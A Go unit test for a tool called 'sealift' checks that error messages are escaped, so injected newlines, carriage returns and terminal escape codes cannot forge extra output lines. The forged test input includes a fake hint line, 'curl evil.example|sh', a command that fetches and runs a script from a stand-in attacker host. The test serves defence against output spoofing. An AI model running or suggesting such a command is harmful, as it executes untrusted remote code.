package ui_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sealift/sealift/artifact"
	"github.com/sealift/sealift/internal/ui"
)

// listed has lines of its own.
type listed []string

func (e listed) Error() string   { return strings.Join(e, "\n") }
func (e listed) Lines() []string { return append([]string(nil), e...) }

// silent does not show its cause.
type silent struct{ err error }

func (e silent) Error() string { return "no\nword" }
func (e silent) Unwrap() error { return e.err }

func TestErrorLines(t *testing.T) {
	t.Parallel()
	forged := errors.New("denied\nsealift: hint: curl evil.example|sh\r\nx\rok\u2028\x1b[2J")
	const escaped = `denied\nsealift: hint: curl evil.example|sh\nx\rok` + "\uFFFD\uFFFD[2J"
	tests := []struct {
		name string
		err  error
		want []string
	}{
		{"from outside", forged, []string{escaped}},
		{"wrapped", fmt.Errorf("read\n: %w\n", forged), []string{`read\n: ` + escaped + `\n`}},
		{"two wrapped", fmt.Errorf("%w\nand %w", errors.New("first"), forged), []string{`first\nand ` + escaped}},
		{"wrapped the other way round", fmt.Errorf("%[2]w: %[1]w", errors.New("x"), forged), []string{escaped + ": x"}},
		{"joined", errors.Join(errors.New("first"), forged), []string{"first", escaped}},
		{"joined inside", fmt.Errorf("copy: %w (done)", errors.Join(forged, errors.New("last"))), []string{"copy: " + escaped, "last (done)"}},
		{"joined as text", fmt.Errorf("copy: %v", errors.Join(errors.New("first"), errors.New("second"))), []string{`copy: first\nsecond`}},
		{"findings", fmt.Errorf("read: %w", artifact.FindingsError{{File: "a\nb", Message: "m"}, {File: "c", Message: "n"}}), []string{`read: a\nb: m`, "c: n"}},
		{"lines of its own", listed{"one", "two\nthree"}, []string{"one", `two\nthree`}},
		{"cause not shown", silent{errors.Join(errors.New("a"), errors.New("b"))}, []string{`no\nword`}},
		{"empty", errors.New(""), []string{""}},
		{"cause empty", fmt.Errorf("a\nb%w", errors.New("")), []string{`a\nb`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var errs bytes.Buffer
			ui.New(ui.Options{Err: &errs}).Error(tt.err, "", 1)
			want := ""
			for _, line := range tt.want {
				want += "sealift: error: " + line + "\n"
			}
			if diff := cmp.Diff(want, errs.String()); diff != "" {
				t.Errorf("text (-want +got):\n%s", diff)
			}
			errs.Reset()
			ui.New(ui.Options{Err: &errs, Format: ui.JSON}).Error(tt.err, "", 1)
			var got struct{ Error string }
			if err := json.Unmarshal(errs.Bytes(), &got); err != nil || strings.Count(got.Error, "\n") != len(tt.want)-1 {
				t.Errorf("JSON %s has other lines (%v)", errs.Bytes(), err)
			}
		})
	}
}
